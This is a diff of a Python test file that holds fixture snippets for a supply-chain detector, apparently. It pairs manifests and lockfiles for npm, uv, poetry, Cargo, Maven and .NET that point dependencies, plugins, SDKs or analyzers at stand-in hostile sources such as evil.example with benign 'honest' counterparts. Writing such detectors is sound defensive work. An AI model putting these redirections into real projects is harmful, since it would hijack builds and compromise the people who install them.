@@ -26,11 +26,17 @@ FILES: dict[str, tuple[str, str]] = {
     "package.json#gitdep": ('{"dependencies":{"x":"git+https://evil.example/x"}}', "evil.example"),
     "package.json#babel": ('{"babel":{"plugins":["./evil.js"]}}', "babel"),
     "uv.lock": (
-        'version = 1\n[[package]]\nname = "x"\nversion = "1"\nsource = { registry = "https://evil.example/simple" }\n',
+        (
+            'version = 1\n[[package]]\nname = "x"\nversion = "1"\nsource = { registry = "https://evil.e'
+            'xample/simple" }\n'
+        ),
         "evil.example",
     ),
     "poetry.lock": (
-        '[[package]]\nname = "x"\nversion = "1"\n[package.source]\ntype = "legacy"\nurl = "https://evil.example/simple"\n',
+        (
+            '[[package]]\nname = "x"\nversion = "1"\n[package.source]\ntype = "legacy"\nurl = "https://'
+            'evil.example/simple"\n'
+        ),
         "evil.example",
     ),
     "Cargo.lock": (
@@ -44,13 +50,16 @@ FILES: dict[str, tuple[str, str]] = {
     "Cargo.toml#patch": ('[patch.crates-io]\nserde={path="evil"}\n', "evil"),
     "Cargo.toml#linker": ('cargo-features=["x"]\n[package]\nname="x"\nlinks="evil"\n', "evil"),
     "pom.xml#comment": (
-        "<project><build><plugins><plugin><!-- </plugin> --><artifactId>evil-plugin</artifactId></plugin></plugins></build></project>",
+        (
+            "<project><build><plugins><plugin><!-- </plugin> --><artifactId>evil-plugin</artifactId></p"
+            "lugin></plugins></build></project>"
+        ),
         "evil-plugin",
     ),
     "x.csproj#sdk": ('<Project Sdk="Evil.Sdk/1.0.0"></Project>', "Evil.Sdk"),
     "x.csproj#analyzer": ("<Project><ItemGroup><Analyzer Include='evil.dll'/></ItemGroup></Project>", "evil.dll"),
     "x.csproj#source": (
-        "<Project><PropertyGroup><RestoreSources>https://evil.example</RestoreSources></PropertyGroup></Project>",
+        ("<Project><PropertyGroup><RestoreSources>https://evil.example</RestoreSources></PropertyGroup></Project>"),
         "evil.example",
     ),
     "x.csproj#prebuild": (
@@ -75,8 +84,13 @@ FILES: dict[str, tuple[str, str]] = {
 }
 HONEST: dict[str, str] = {
     "package-lock.json": '{"packages":{"node_modules/x":{"resolved":"https://registry.npmjs.org/x/-/x-1.0.0.tgz"}}}',
-    "uv.lock": 'version = 1\n[[package]]\nname = "x"\nversion = "1"\nsource = { registry = "https://pypi.org/simple" }\nsdist = { url = "https://files.pythonhosted.org/packages/x.tar.gz" }\n',
-    "Cargo.lock": '[[package]]\nname = "x"\nversion = "1"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\n',
+    "uv.lock": (
+        'version = 1\n[[package]]\nname = "x"\nversion = "1"\nsource = { registry = "https://pypi.o'
+        'rg/simple" }\nsdist = { url = "https://files.pythonhosted.org/packages/x.tar.gz" }\n'
+    ),
+    "Cargo.lock": (
+        '[[package]]\nname = "x"\nversion = "1"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\n'
+    ),
     "src/plugins/index.ts": "export const plugins = []\n",
     "docs/setup.md": "npm install\n",
     ".editorconfig": "root = true\n",
@@ -84,7 +98,10 @@ HONEST: dict[str, str] = {
     ".nvmrc": "22\n",
     "rustfmt.toml": "max_width = 100\n",
     "Cargo.toml": '[package]\nname="x"\nversion="0.1.0"\n[dependencies]\nserde="1"\n',
-    "x.csproj": '<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup></Project>',
+    "x.csproj": (
+        '<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><TargetFramework>net8.0</TargetFramewo'
+        "rk></PropertyGroup></Project>"
+    ),
     ".python-version": "3.12\n",
     "pyproject.toml#version": '[project]\nname="x"\n[tool.hatch.version]\npath="src/x/about.py"\n',
 }
